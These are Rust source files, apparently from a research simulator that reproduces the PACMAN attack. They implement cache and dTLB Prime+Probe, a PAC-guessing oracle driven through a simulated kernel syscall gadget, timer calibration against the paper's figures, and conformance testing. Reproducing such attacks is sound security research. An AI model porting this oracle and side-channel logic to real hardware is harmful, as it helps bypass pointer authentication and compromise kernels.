    /// [`L1D_WAYS`] attacker lines in distinct pages sharing the target's
    /// page offset (hence its L1D set), placed in distinct dTLB sets so
    /// the probe never fights the TLB.
    pub fn for_target(sys: &mut System, target_va: u64) -> Self {
        let set = (target_va / LINE) % L1D_SETS;
        let offset = target_va % PAGE_SIZE / LINE * LINE;
        let base = sys.alloc_user_region(8 * L1D_WAYS as u64);
        let mut addrs = Vec::with_capacity(L1D_WAYS);
        for i in 0..L1D_WAYS as u64 {
            // Distinct pages 8 apart: distinct dTLB sets, same page offset.
            let va = base + 8 * i * PAGE_SIZE + offset;
            sys.ensure_user_page(va);
            addrs.push(va);
        }
        Self { addrs, set }
    }

    /// The monitored L1D set.
    pub fn monitored_set(&self) -> u64 {
        self.set
    }

    /// Fills the monitored set (also warms the member pages' dTLB
    /// entries, so probe latencies isolate the cache).
    ///
    /// # Errors
    ///
    /// Propagates traps from the attacker's own loads.
    pub fn prime(&self, sys: &mut System) -> Result<(), Trap> {
        for &a in &self.addrs {
            sys.machine.user_load(a)?;
        }
        Ok(())
    }

    /// Probes the set, counting members whose reload exceeds
    /// [`CACHE_THRESHOLD`].
    ///
    /// # Errors
    ///
    /// Propagates traps from the attacker's own loads.
    pub fn probe(&self, sys: &mut System) -> Result<usize, Trap> {
        let mut misses = 0;
        for &a in &self.addrs {
            if sys.machine.timed_user_load(a)? > CACHE_THRESHOLD {
                misses += 1;
            }
        }
        Ok(misses)
    }
}

/// The L1D set indices the syscall path touches on every call (object,
/// scratch and table accesses all live in the first lines of their
/// pages).
pub fn hot_l1d_sets() -> Vec<u64> {
    (0..8).collect()
}

/// Picks a target-side page offset whose L1D set is quiet.
pub fn quiet_target_offset() -> u64 {
    let hot = hot_l1d_sets();
    let set = (0..L1D_SETS).find(|s| !hot.contains(s)).expect("256 sets cannot all be hot");
    set * LINE
}

/// The data-gadget PAC oracle transmitting through the L1 data cache.
#[derive(Debug)]
pub struct CacheDataPacOracle {
    probes: HashMap<u64, CachePrimeProbe>,
    samples: usize,
    /// Training iterations per trial.
    pub train_iters: usize,
}

impl CacheDataPacOracle {
    /// Creates the oracle.
    pub fn new(_sys: &mut System) -> Result<Self, OracleError> {
        Ok(Self { probes: HashMap::new(), samples: 1, train_iters: TRAIN_ITERS })
    }

    /// Sets the per-test sample count.
    pub fn with_samples(mut self, samples: usize) -> Self {
        assert!(samples >= 1);
        self.samples = samples;
        self
    }
}

impl PacOracle for CacheDataPacOracle {
    fn samples(&self) -> usize {
        self.samples
    }

    fn channel(&self) -> &'static str {
        "l1d-data"
    }

    fn trial(&mut self, sys: &mut System, target: u64, pac: u16) -> Result<usize, OracleError> {
        let train_iters = self.train_iters;
        // Borrow, don't clone: the eviction set is invariant across
        // guesses, so the per-guess address vector rebuild was pure waste.
        let pp =
            self.probes.entry(target).or_insert_with(|| CachePrimeProbe::for_target(sys, target));
        let sc = sys.gadget.data_gadget;
        for _ in 0..train_iters {
            sys.kernel.syscall(&mut sys.machine, sc, &[0, 0, 1])?;
        }
        pp.prime(sys)?;
        let mut payload = [0u8; 24];
        payload[16..].copy_from_slice(&with_pac_field(target, pac).to_le_bytes());
        let buf = sys.write_payload(&payload);
        sys.kernel.syscall(&mut sys.machine, sc, &[buf, 24, 0])?;
        Ok(pp.probe(sys)?)
    }

    /// The cache channel uses its own miss threshold (4-way sets).
    fn test_pac(
        &mut self,
        sys: &mut System,
        target: u64,
        pac: u16,
    ) -> Result<OracleVerdict, OracleError> {
        let mut misses = Vec::with_capacity(self.samples);
        for _ in 0..self.samples {
            misses.push(self.trial(sys, target, pac)?);
        }
        Ok(OracleVerdict::with_threshold(misses, CACHE_MISS_THRESHOLD))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::system::SystemConfig;

    fn quiet_system() -> System {
        let mut cfg = SystemConfig::default();
        cfg.machine.os_noise = 0.0;
        System::boot(cfg)
    }

    fn quiet_target(sys: &mut System) -> u64 {
        let set = sys.pick_quiet_dtlb_set();
        sys.alloc_target(set) + quiet_target_offset()
    }

    #[test]
    fn eviction_set_shares_the_targets_l1d_set() {
        let mut sys = quiet_system();
        let target = quiet_target(&mut sys);
        let pp = CachePrimeProbe::for_target(&mut sys, target);
        assert_eq!(pp.monitored_set(), (target / LINE) % L1D_SETS);
        assert_eq!(pp.addrs.len(), L1D_WAYS);
        for &a in &pp.addrs {
            assert_eq!((a / LINE) % L1D_SETS, pp.monitored_set());
        }
    }

    #[test]
    fn unperturbed_set_probes_clean_and_victim_fill_cascades() {
        let mut sys = quiet_system();
        let target = quiet_target(&mut sys);
        let pp = CachePrimeProbe::for_target(&mut sys, target);
        pp.prime(&mut sys).unwrap();
        assert!(pp.probe(&mut sys).unwrap() <= 1);
        // Simulate the victim's fill: one access to the target's set.
        pp.prime(&mut sys).unwrap();
        // The target is a kernel address; emulate its line fill directly.
        let pa = sys
            .machine
            .mem
            .tables
            .translate(&sys.machine.mem.phys, pacman_isa::ptr::VirtualAddress::new(target))
            .unwrap();
        sys.machine.mem.l1d.access(pa);
        let misses = pp.probe(&mut sys).unwrap();
        assert!(misses >= CACHE_MISS_THRESHOLD, "victim fill caused only {misses} misses");
    }

    #[test]
    fn cache_channel_oracle_distinguishes_pacs() {
        let mut sys = quiet_system();
        let target = quiet_target(&mut sys);
        let true_pac = sys.true_pac(target);
        let mut oracle = CacheDataPacOracle::new(&mut sys).unwrap();
        let good = oracle.test_pac(&mut sys, target, true_pac).unwrap();
        assert!(good.is_correct(), "true PAC rejected via the cache channel: {good:?}");
        for delta in [1u16, 0x40, 0x2000] {
            let bad = oracle.test_pac(&mut sys, target, true_pac ^ delta).unwrap();
            assert!(!bad.is_correct(), "wrong PAC accepted via the cache channel: {bad:?}");
        }
        assert_eq!(sys.kernel.crash_count(), 0);
    }

    #[test]
    fn quiet_offset_avoids_hot_lines() {
        let off = quiet_target_offset();
        assert!(!hot_l1d_sets().contains(&(off / LINE)));
        assert_eq!(off % LINE, 0);
    }
}
