//! Prime+Probe over the shared L1 dTLB (paper §2.3, §8.1).

use crate::evict::EvictionSet;
use crate::system::System;
use pacman_uarch::Trap;

/// Default tick threshold separating a dTLB hit from a miss with the
/// multi-thread timer (paper §7.4: hits never beyond 27, misses never
/// below 32, threshold set to 30).
pub const DEFAULT_THRESHOLD: u64 = 30;

/// A Prime+Probe instance monitoring one dTLB set.
#[derive(Clone, Debug)]
pub struct PrimeProbe {
    prime_set: EvictionSet,
    reset_set: EvictionSet,
    threshold: u64,
}

impl PrimeProbe {
    /// Builds the prime and reset sets for `target_va` (§8.1 steps 2–3).
    pub fn for_target(sys: &mut System, target_va: u64) -> Self {
        let prime_set = EvictionSet::dtlb_for_target(sys, target_va);
        let reset_set = EvictionSet::l2_reset_for_target(sys, target_va);
        Self { prime_set, reset_set, threshold: DEFAULT_THRESHOLD }
    }

    /// Overrides the hit/miss threshold (see [`crate::timing`] for
    /// calibration).
    pub fn set_threshold(&mut self, threshold: u64) {
        self.threshold = threshold;
    }

    /// The active threshold.
    pub fn threshold(&self) -> u64 {
        self.threshold
    }

    /// The monitored dTLB set.
    pub fn monitored_set(&self) -> u64 {
        self.prime_set.set()
    }

    /// The Prime+Probe member addresses (diagnostics and tests).
    pub fn prime_addrs(&self) -> &[u64] {
        self.prime_set.addrs()
    }

    /// §8.1 step 2: reset the TLB hierarchy so no stale copy of the
    /// target's translation survives from a previous trial.
    ///
    /// # Errors
    ///
    /// Propagates traps from the attacker's own loads (setup bugs only).
    pub fn reset(&self, sys: &mut System) -> Result<(), Trap> {
        for &a in self.reset_set.addrs() {
            sys.machine.user_load(a)?;
        }
        Ok(())
    }

    /// §8.1 step 3: prime the monitored dTLB set by filling it with the
    /// eviction set.
    ///
    /// # Errors
    ///
    /// Propagates traps from the attacker's own loads.
    pub fn prime(&self, sys: &mut System) -> Result<(), Trap> {
        for &a in self.prime_set.addrs() {
            sys.machine.user_load(a)?;
        }
        Ok(())
    }

    /// §8.1 step 5/6: probe the monitored set, returning the number of
    /// member addresses whose reload latency classifies as a miss.
    ///
    /// A victim insertion into the set evicts the LRU member; with true
    /// LRU the sequential probe then cascades, so a single insertion
    /// shows up as a near-full-set miss count (the paper's "at least 5
    /// misses" signal), while an untouched set probes with 0–1 misses.
    ///
    /// # Errors
    ///
    /// Propagates traps from the attacker's own loads.
    pub fn probe(&self, sys: &mut System) -> Result<usize, Trap> {
        let mut misses = 0;
        for &a in self.prime_set.addrs() {
            let ticks = sys.machine.timed_user_load(a)?;
            if ticks > self.threshold {
                misses += 1;
            }
        }
        Ok(misses)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::system::SystemConfig;
    use pacman_isa::ptr::{VirtualAddress, PAGE_SIZE};
    use pacman_uarch::{Perms, TlbEntry};

    fn quiet_system() -> System {
        let mut cfg = SystemConfig::default();
        cfg.machine.os_noise = 0.0;
        System::boot(cfg)
    }

    #[test]
    fn unperturbed_set_probes_clean() {
        let mut sys = quiet_system();
        let target = sys.alloc_target(33);
        let pp = PrimeProbe::for_target(&mut sys, target);
        pp.reset(&mut sys).unwrap();
        pp.prime(&mut sys).unwrap();
        let misses = pp.probe(&mut sys).unwrap();
        assert!(misses <= 1, "clean probe saw {misses} misses");
    }

    #[test]
    fn a_single_victim_insertion_cascades_into_many_misses() {
        let mut sys = quiet_system();
        let target = sys.alloc_target(33);
        let target_vpn = VirtualAddress::new(target).vpn();
        let pp = PrimeProbe::for_target(&mut sys, target);
        pp.reset(&mut sys).unwrap();
        pp.prime(&mut sys).unwrap();
        // Simulate the victim's speculative load filling the set.
        sys.machine.mem.tlbs.fill_data(TlbEntry {
            vpn: target_vpn,
            pfn: 1,
            perms: Perms::kernel_rw(),
        });
        let misses = pp.probe(&mut sys).unwrap();
        assert!(misses >= 5, "victim insertion only caused {misses} misses");
    }

    #[test]
    fn probe_re_primes_for_the_next_round() {
        let mut sys = quiet_system();
        let target = sys.alloc_target(12);
        let pp = PrimeProbe::for_target(&mut sys, target);
        pp.reset(&mut sys).unwrap();
        pp.prime(&mut sys).unwrap();
        let _ = pp.probe(&mut sys).unwrap();
        // After a probe, the set is primed again; an immediate re-probe is
        // clean.
        let misses = pp.probe(&mut sys).unwrap();
        assert!(misses <= 1);
    }

    #[test]
    fn reset_clears_a_stale_target_translation() {
        let mut sys = quiet_system();
        // Make the target share sets with a *user* page so we can load it.
        let target = sys.alloc_target(99);
        let stale = sys.alloc_user_region(4096) + 99 * PAGE_SIZE;
        sys.ensure_user_page(stale);
        sys.machine.user_load(stale).unwrap();
        let pp = PrimeProbe::for_target(&mut sys, target);
        // The reset set shares the *L2* set of the target (vpn % 2048);
        // `stale` shares only the dTLB set, so check via dTLB occupancy:
        // priming evicts it regardless; what matters is the combination
        // leaves no stale state that the probe would misread.
        pp.reset(&mut sys).unwrap();
        pp.prime(&mut sys).unwrap();
        assert!(pp.probe(&mut sys).unwrap() <= 1);
    }

    #[test]
    fn threshold_is_adjustable() {
        let mut sys = quiet_system();
        let target = sys.alloc_target(1);
        let mut pp = PrimeProbe::for_target(&mut sys, target);
        assert_eq!(pp.threshold(), DEFAULT_THRESHOLD);
        pp.set_threshold(100);
        pp.reset(&mut sys).unwrap();
        pp.prime(&mut sys).unwrap();
        // With an absurdly high threshold even real misses vanish.
        sys.machine.mem.tlbs.flush();
        let misses = pp.probe(&mut sys).unwrap();
        assert_eq!(misses, 0, "threshold 100 should classify everything as hits");
    }
}
