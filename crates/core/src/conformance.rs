//! Sharded differential-conformance driver: seeded fuzz parity between
//! the architectural reference machine and the speculative core.
//!
//! The `pacman-ref` crate supplies the oracle ([`ScenarioArena`]) and the
//! generator ([`pacman_ref::generate`]); this module turns them into a
//! workspace experiment that follows the exact [`crate::parallel`]
//! recipe: the program space is cut into [`DEFAULT_SHARDS`] contiguous
//! shards as a pure function of the program count and the base seed,
//! each shard runs its programs independently under the caller's
//! [`Tolerance`] (injected shard panics retry within the budget), and
//! divergences merge **in shard order**. For a fixed base seed the
//! report — including the divergence list — is identical at `jobs = 1`
//! and `jobs = N`, and identical to the fault-free run when injected
//! faults forced retries.
//!
//! Any diverging program is shrunk with [`pacman_ref::minimize`] before
//! it is reported, so the JSONL repro dump carries minimal programs.

use std::sync::Arc;

use pacman_ref::{generate, minimize, quiet_config, scenario_seed, Divergence, ScenarioArena};
use pacman_runner::{shard_plan, Shard, DEFAULT_SHARDS};
use pacman_telemetry::Registry;
use pacman_uarch::MachineConfig;

use crate::fault::Tolerance;
use crate::parallel::{fold_campaign, record_runner_counters, ExperimentError};

/// Workload for one conformance run.
#[derive(Clone, Debug)]
pub struct ConformConfig {
    /// Generated programs to execute differentially.
    pub programs: usize,
    /// Base seed: program `i` runs scenario seed `mix(seed, i)`, so the
    /// scenario stream is a pure function of this value (never of the
    /// shard or job count).
    pub seed: u64,
    /// Retire-boundary budget per program (generated programs halt long
    /// before this; the budget only bounds accidental live-lock).
    pub max_steps: u64,
    /// The speculative-core configuration under test.
    pub machine: MachineConfig,
    /// Shrink each diverging program to a minimal reproducer before
    /// reporting it (costs many extra differential runs per divergence;
    /// turn off when only the divergence count matters).
    pub minimize: bool,
}

impl Default for ConformConfig {
    fn default() -> Self {
        Self { programs: 500, seed: 7, max_steps: 512, machine: quiet_config(), minimize: true }
    }
}

/// Merged result of a conformance run.
#[derive(Clone, Debug)]
pub struct ConformReport {
    /// Programs executed differentially.
    pub programs: u64,
    /// Every divergence found, minimized, in global program order.
    pub divergences: Vec<Divergence>,
    /// Retries the execution layer spent absorbing injected faults.
    pub retries: u64,
    /// `conform.*` + `runner.*` counters for the JSONL metrics export.
    pub telemetry: Registry,
}

impl ConformReport {
    /// Whether the speculative core conformed on every program.
    #[must_use]
    pub fn conforms(&self) -> bool {
        self.divergences.is_empty()
    }
}

/// Runs `cfg.programs` generated programs on both machines across
/// `jobs` workers (the CLI `conform` command and the `conform` bench).
///
/// # Errors
///
/// [`ExperimentError::Shards`] with a partial-result report when a
/// shard exhausts its retry budget; [`ExperimentError::Runner`] for
/// engine failures. A divergence is a *finding*, not an error — it
/// comes back in [`ConformReport::divergences`].
pub fn run_conformance(
    cfg: &ConformConfig,
    jobs: usize,
    tol: &Tolerance,
) -> Result<ConformReport, ExperimentError> {
    let tol = Arc::new(tol.clone());
    let plan = shard_plan(cfg.programs, DEFAULT_SHARDS, cfg.seed);
    let work = {
        let cfg = cfg.clone();
        let tol = Arc::clone(&tol);
        move |shard: &Shard, attempt: u32| -> Result<Vec<Divergence>, ExperimentError> {
            tol.faults.maybe_panic(shard.index, tol.fault_attempt(attempt));
            // One lockstep pair per shard, reset between scenarios:
            // frames, page tables and the block-cache arena are recycled
            // instead of reallocated for each of the shard's programs.
            let mut arena = ScenarioArena::new(&cfg.machine);
            let mut divergences = Vec::new();
            for i in shard.range() {
                let scenario = generate(scenario_seed(cfg.seed, i as u64));
                if let Some(found) = arena.run(&scenario, cfg.max_steps) {
                    if cfg.minimize {
                        let (_, witness) = minimize(&scenario, &cfg.machine, cfg.max_steps);
                        divergences.push(witness);
                    } else {
                        divergences.push(found);
                    }
                }
            }
            Ok(divergences)
        }
    };
    let (divergences, retries) = fold_campaign(
        &plan,
        jobs,
        tol.retry,
        work,
        Vec::new(),
        |all: &mut Vec<Divergence>, _, found: Vec<Divergence>| all.extend(found),
    )?;
    let mut telemetry = Registry::new();
    telemetry.incr_by("conform.programs", cfg.programs as u64);
    telemetry.incr_by("conform.divergences", divergences.len() as u64);
    record_runner_counters(&mut telemetry, retries, &tol);
    Ok(ConformReport { programs: cfg.programs as u64, divergences, retries, telemetry })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fault::{FaultPlan, RetryPolicy};

    #[test]
    fn healthy_core_conforms_and_is_jobs_invariant() {
        let cfg = ConformConfig { programs: 24, ..ConformConfig::default() };
        let serial = run_conformance(&cfg, 1, &Tolerance::default()).expect("jobs=1");
        let parallel = run_conformance(&cfg, 4, &Tolerance::default()).expect("jobs=4");
        assert!(serial.conforms(), "healthy core must conform");
        assert_eq!(serial.divergences.len(), parallel.divergences.len());
        assert_eq!(serial.telemetry.snapshot(), parallel.telemetry.snapshot());
        assert_eq!(serial.telemetry.counter_value("conform.programs"), 24);
    }

    #[test]
    fn broken_core_divergences_merge_in_program_order() {
        // Minimization is covered by pacman-ref's own tests; skip it here
        // so the parity check only pays for the differential runs.
        let mut cfg = ConformConfig { programs: 48, minimize: false, ..ConformConfig::default() };
        cfg.machine.bugs.leak_squashed_registers = true;
        let report = run_conformance(&cfg, 4, &Tolerance::default()).expect("run");
        assert!(!report.conforms(), "the sabotaged core must diverge somewhere in 48 programs");
        let seeds: Vec<u64> = report.divergences.iter().map(|d| d.seed).collect();
        let serial = run_conformance(&cfg, 1, &Tolerance::default()).expect("serial");
        let serial_seeds: Vec<u64> = serial.divergences.iter().map(|d| d.seed).collect();
        assert_eq!(seeds, serial_seeds, "divergence order is jobs-invariant");
        assert_eq!(
            report.telemetry.counter_value("conform.divergences"),
            report.divergences.len() as u64
        );
    }

    #[test]
    fn injected_faults_within_budget_leave_the_report_identical() {
        let cfg = ConformConfig { programs: 16, ..ConformConfig::default() };
        let baseline = run_conformance(&cfg, 2, &Tolerance::default()).expect("fault-free");
        let tol = Tolerance { retry: RetryPolicy::default(), faults: FaultPlan::new(3, 0.3) };
        let faulted = run_conformance(&cfg, 4, &tol).expect("faults within budget");
        assert_eq!(baseline.divergences.len(), faulted.divergences.len());
        assert_eq!(
            baseline.telemetry.counter_value("conform.programs"),
            faulted.telemetry.counter_value("conform.programs")
        );
    }
}
