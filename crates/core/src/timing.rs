//! Timer evaluation and threshold calibration (paper §7.4, Figure 7).
//!
//! Collects latency distributions of known-hit and known-miss loads under
//! a chosen timing source, and derives the hit/miss decision threshold.
//! With the defaults this reproduces the §7.4 result: multi-thread-timer
//! dTLB hits never measure beyond 27 ticks, misses never below 32, and 30
//! is a sound threshold.

use pacman_uarch::{TimingSource, Trap};

use crate::evict::{EvictionSet, L2_WAYS};
use crate::system::System;

/// A latency histogram for one access population.
#[derive(Clone, Eq, PartialEq, Debug, Default)]
pub struct LatencyHistogram {
    samples: Vec<u64>,
}

impl LatencyHistogram {
    /// Adds one measurement.
    pub fn record(&mut self, ticks: u64) {
        self.samples.push(ticks);
    }

    /// Number of samples.
    pub fn len(&self) -> usize {
        self.samples.len()
    }

    /// Whether the histogram is empty.
    pub fn is_empty(&self) -> bool {
        self.samples.is_empty()
    }

    /// Minimum observed latency.
    pub fn min(&self) -> Option<u64> {
        self.samples.iter().copied().min()
    }

    /// Maximum observed latency.
    pub fn max(&self) -> Option<u64> {
        self.samples.iter().copied().max()
    }

    /// Median observed latency.
    pub fn median(&self) -> Option<u64> {
        if self.samples.is_empty() {
            return None;
        }
        let mut s = self.samples.clone();
        s.sort_unstable();
        Some(s[s.len() / 2])
    }

    /// Bucketised counts `(tick, count)` for plotting, sorted by tick.
    pub fn buckets(&self) -> Vec<(u64, usize)> {
        let mut counts = std::collections::BTreeMap::new();
        for &s in &self.samples {
            *counts.entry(s).or_insert(0usize) += 1;
        }
        counts.into_iter().collect()
    }

    /// Fraction of samples at or below `ticks`.
    pub fn fraction_at_or_below(&self, ticks: u64) -> f64 {
        if self.samples.is_empty() {
            return 0.0;
        }
        self.samples.iter().filter(|&&s| s <= ticks).count() as f64 / self.samples.len() as f64
    }
}

/// The Figure 7 experiment output: hit and miss distributions for one
/// timing source, plus the derived threshold.
#[derive(Clone, Debug)]
pub struct TimerEvaluation {
    /// Timing source measured.
    pub source: TimingSource,
    /// L1-dTLB-hit (and L1D-hit) loads.
    pub dtlb_hits: LatencyHistogram,
    /// dTLB-miss / L2-TLB-hit loads.
    pub dtlb_misses: LatencyHistogram,
    /// Full-walk loads.
    pub walks: LatencyHistogram,
    /// A threshold separating hits from dTLB misses, if the
    /// distributions separate.
    pub threshold: Option<u64>,
}

impl TimerEvaluation {
    /// Whether this timer can drive the attack (distributions disjoint).
    pub fn is_usable(&self) -> bool {
        self.threshold.is_some()
    }
}

/// Runs the Figure 7 measurement for the machine's current timing source.
///
/// `samples` loads per population. Uses attacker-private pages only.
///
/// # Errors
///
/// Propagates traps from the attacker's own loads (setup bugs only).
pub fn evaluate_timer(sys: &mut System, samples: usize) -> Result<TimerEvaluation, Trap> {
    let source = sys.machine.timing_source();
    let page = sys.alloc_user_region(1);
    sys.ensure_user_page(page);
    let reset = EvictionSet::l2_reset_for_target(sys, page);

    let mut dtlb_hits = LatencyHistogram::default();
    let mut dtlb_misses = LatencyHistogram::default();
    let mut walks = LatencyHistogram::default();

    for i in 0..samples {
        // Hit: touch, then measure.
        sys.machine.user_load(page)?;
        dtlb_hits.record(sys.machine.timed_user_load(page)?);

        // dTLB miss, L2 TLB hit: evict from the dTLB only by filling the
        // dTLB set with same-set addresses (stride 256 pages).
        let dtlb_evict = EvictionSet::dtlb_for_target_cached(sys, page, i == 0);
        for &a in dtlb_evict.addrs() {
            sys.machine.user_load(a)?;
        }
        dtlb_misses.record(sys.machine.timed_user_load(page)?);

        // Walk: evict from the whole hierarchy.
        for &a in reset.addrs() {
            sys.machine.user_load(a)?;
        }
        walks.record(sys.machine.timed_user_load(page)?);
    }

    let threshold = derive_threshold(&dtlb_hits, &dtlb_misses);
    Ok(TimerEvaluation { source, dtlb_hits, dtlb_misses, walks, threshold })
}

impl EvictionSet {
    /// Test-support constructor that re-derives (or reuses) the dTLB set
    /// for a page; avoids re-allocating address space every iteration.
    fn dtlb_for_target_cached(sys: &mut System, target: u64, first: bool) -> EvictionSet {
        use std::cell::RefCell;
        thread_local! {
            static CACHE: RefCell<Option<(u64, EvictionSet)>> = const { RefCell::new(None) };
        }
        CACHE.with(|c| {
            let mut c = c.borrow_mut();
            match &*c {
                Some((t, ev)) if *t == target && !first => ev.clone(),
                _ => {
                    let ev = EvictionSet::dtlb_for_target(sys, target);
                    *c = Some((target, ev.clone()));
                    ev
                }
            }
        })
    }
}

/// Derives a midpoint threshold if the populations are disjoint.
pub fn derive_threshold(hits: &LatencyHistogram, misses: &LatencyHistogram) -> Option<u64> {
    let hi = hits.max()?;
    let lo = misses.min()?;
    (hi < lo).then(|| (hi + lo) / 2)
}

/// Quick sanity check that the §8.1 reset population really uses 23-way
/// L2 conflicts (used by tests and the Fig. 6 derivation).
pub fn l2_reset_width() -> usize {
    L2_WAYS
}

/// The Table 1 row data: a timer's EL0 accessibility and whether it
/// resolves the dTLB hit/miss gap.
#[derive(Clone, Debug)]
pub struct TimerRow {
    /// Human-readable name.
    pub name: &'static str,
    /// The MSR (or mechanism) behind it.
    pub register: &'static str,
    /// Whether EL0 can read it without kernel help.
    pub el0_by_default: bool,
    /// Whether the measured distributions separate.
    pub usable_for_attack: bool,
}

/// Regenerates Table 1 by actually measuring each source on `sys`.
///
/// # Errors
///
/// Propagates traps from the measurement loads.
pub fn table1(sys: &mut System) -> Result<Vec<TimerRow>, Trap> {
    let original = sys.machine.timing_source();
    let mut rows = Vec::new();
    for (name, register, source, el0) in [
        ("System Counter (24 MHz)", "CNTPCT_EL0", TimingSource::SystemCounter, true),
        ("Apple Performance Counter", "PMC0", TimingSource::Pmc0, false),
        ("Multi-thread Counter", "(shared memory)", TimingSource::MultiThread, true),
    ] {
        // PMC0 needs the kext first (§6.1).
        if source == TimingSource::Pmc0 {
            let pmc = sys.pmc;
            pmc.enable(&mut sys.kernel, &mut sys.machine);
        }
        sys.machine.set_timing_source(source);
        let eval = evaluate_timer(sys, 100)?;
        rows.push(TimerRow {
            name,
            register,
            el0_by_default: el0,
            usable_for_attack: eval.is_usable(),
        });
    }
    sys.machine.set_timing_source(original);
    Ok(rows)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::system::SystemConfig;

    fn quiet_system() -> System {
        let mut cfg = SystemConfig::default();
        cfg.machine.os_noise = 0.0;
        System::boot(cfg)
    }

    #[test]
    fn multi_thread_timer_separates_with_threshold_near_30() {
        let mut sys = quiet_system();
        let eval = evaluate_timer(&mut sys, 200).unwrap();
        assert!(eval.is_usable());
        let hit_max = eval.dtlb_hits.max().unwrap();
        let miss_min = eval.dtlb_misses.min().unwrap();
        // §7.4: hits never beyond 27, misses never below 32.
        assert!(hit_max <= 27, "hit max {hit_max}");
        assert!(miss_min >= 32, "miss min {miss_min}");
        let t = eval.threshold.unwrap();
        assert!((28..=34).contains(&t), "derived threshold {t} not ≈30");
        // Walks are slower still.
        assert!(eval.walks.median().unwrap() > eval.dtlb_misses.median().unwrap());
    }

    #[test]
    fn system_counter_is_too_coarse() {
        let mut sys = quiet_system();
        sys.machine.set_timing_source(TimingSource::SystemCounter);
        let eval = evaluate_timer(&mut sys, 100).unwrap();
        assert!(!eval.is_usable(), "a 24 MHz counter must not resolve ~35-cycle gaps");
    }

    #[test]
    fn pmc0_works_once_unlocked() {
        let mut sys = quiet_system();
        let pmc = sys.pmc;
        pmc.enable(&mut sys.kernel, &mut sys.machine);
        sys.machine.set_timing_source(TimingSource::Pmc0);
        let eval = evaluate_timer(&mut sys, 100).unwrap();
        assert!(eval.is_usable());
        // Cycle-accurate plateaus: hits ≈ 60, dTLB misses ≈ 95 (Fig 5a).
        let hit_med = eval.dtlb_hits.median().unwrap();
        let miss_med = eval.dtlb_misses.median().unwrap();
        assert!((58..=66).contains(&hit_med), "hit median {hit_med}");
        assert!((93..=101).contains(&miss_med), "miss median {miss_med}");
    }

    #[test]
    fn table1_reproduces_the_papers_rows() {
        let mut sys = quiet_system();
        let rows = table1(&mut sys).unwrap();
        assert_eq!(rows.len(), 3);
        let by_name: std::collections::HashMap<_, _> = rows.iter().map(|r| (r.name, r)).collect();
        assert!(!by_name["System Counter (24 MHz)"].usable_for_attack);
        assert!(by_name["Apple Performance Counter"].usable_for_attack);
        assert!(by_name["Multi-thread Counter"].usable_for_attack);
        assert!(!by_name["Apple Performance Counter"].el0_by_default);
    }

    #[test]
    fn histogram_statistics() {
        let mut h = LatencyHistogram::default();
        for v in [5u64, 3, 9, 3] {
            h.record(v);
        }
        assert_eq!(h.len(), 4);
        assert_eq!(h.min(), Some(3));
        assert_eq!(h.max(), Some(9));
        assert_eq!(h.median(), Some(5));
        assert_eq!(h.buckets(), vec![(3, 2), (5, 1), (9, 1)]);
        assert!((h.fraction_at_or_below(5) - 0.75).abs() < 1e-9);
    }
}
