//! Per-worker [`System`] pool behind the persistent executor.
//!
//! Booting a [`System`] is the allocation hot spot of every campaign:
//! fresh physical frames, rebuilt page tables, a cold block-cache
//! arena. The executor keeps its workers alive for the process
//! lifetime, so a worker that just finished a shard can hand its booted
//! system to the next shard instead of tearing it down —
//! [`System::reboot_into`] recycles the frame pool and is bit-identical
//! to a fresh boot (pinned by a `system` test), which makes pooling
//! invisible to results and allocator-free in steady state.
//!
//! The pool is **thread-local** (one per executor worker, no locks) and
//! keyed by the shard configuration with the per-shard fields
//! normalised away: `machine.seed` changes on every shard and
//! `machine.latency.fault_spike` on every injected-fault attempt, and
//! both are plain config values that `reboot_into` re-applies, so
//! systems that differ only there are interchangeable. Everything else
//! (kernel seed, timing source, latency model, bug switches) must match
//! exactly or the lease falls back to a fresh boot.
//!
//! Global counters ([`stats`]) expose fresh boots, pooled reboots and
//! freshly allocated frames; the `perf_campaign` bench reads them to
//! back the allocator-free steady-state claim.

use std::cell::RefCell;
use std::ops::{Deref, DerefMut};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Mutex;

use crate::system::{System, SystemConfig};

/// Parked systems kept per thread. Workers juggle very few distinct
/// keys at once — the campaign config plus perhaps a sweep stride — so
/// a small cap bounds memory without hurting the hit rate.
const POOL_CAP: usize = 3;

/// Maximum donated snapshot blobs retained for checkpointing, and
/// maximum seed blobs consumed at resume. Matches the order of worker
/// threads a daemon runs; more would only duplicate interchangeable
/// machines.
const DONATION_CAP: usize = 4;

static FRESH_BOOTS: AtomicU64 = AtomicU64::new(0);
static REBOOTS: AtomicU64 = AtomicU64::new(0);
static FRESH_FRAMES: AtomicU64 = AtomicU64::new(0);
static SEEDED_BOOTS: AtomicU64 = AtomicU64::new(0);

/// When set, parking a [`PooledSystem`] also donates a serialized
/// [`System::snapshot`] into the global donation store (until the
/// store is full). Off by default: campaigns that never checkpoint
/// never pay for serialization.
static DONATE: AtomicBool = AtomicBool::new(false);

/// Donated snapshot blobs, drained by the daemon's checkpoint writer.
static DONATIONS: Mutex<Vec<Vec<u8>>> = Mutex::new(Vec::new());

/// Seed blobs from a restored checkpoint, consumed on pool misses.
static SEEDS: Mutex<Vec<Vec<u8>>> = Mutex::new(Vec::new());

thread_local! {
    static POOL: RefCell<Vec<(SystemConfig, System)>> = const { RefCell::new(Vec::new()) };
}

/// The pool key: the config with the per-shard fields zeroed. Two
/// configs with the same key describe interchangeable systems (the
/// differing fields are re-applied by the reboot).
fn pool_key(cfg: &SystemConfig) -> SystemConfig {
    let mut key = cfg.clone();
    key.machine.seed = 0;
    key.machine.latency.fault_spike = 0;
    key
}

/// Process-wide pool counters (summed over every thread-local pool).
#[derive(Copy, Clone, Eq, PartialEq, Debug)]
pub struct PoolStats {
    /// Systems booted from nothing (pool miss).
    pub fresh_boots: u64,
    /// Systems recycled through [`System::reboot_into`] (pool hit).
    pub reboots: u64,
    /// Physical frames allocated fresh instead of recycled, summed at
    /// lease return. Zero deltas here are the allocator-free claim.
    pub fresh_frames: u64,
    /// Pool misses served by restoring a checkpoint seed blob instead
    /// of booting from nothing (see [`seed`]).
    pub seeded_boots: u64,
}

/// Snapshot of the global counters. Benches measure deltas across a
/// warmed steady-state window rather than absolute values.
#[must_use]
pub fn stats() -> PoolStats {
    PoolStats {
        fresh_boots: FRESH_BOOTS.load(Ordering::Relaxed),
        reboots: REBOOTS.load(Ordering::Relaxed),
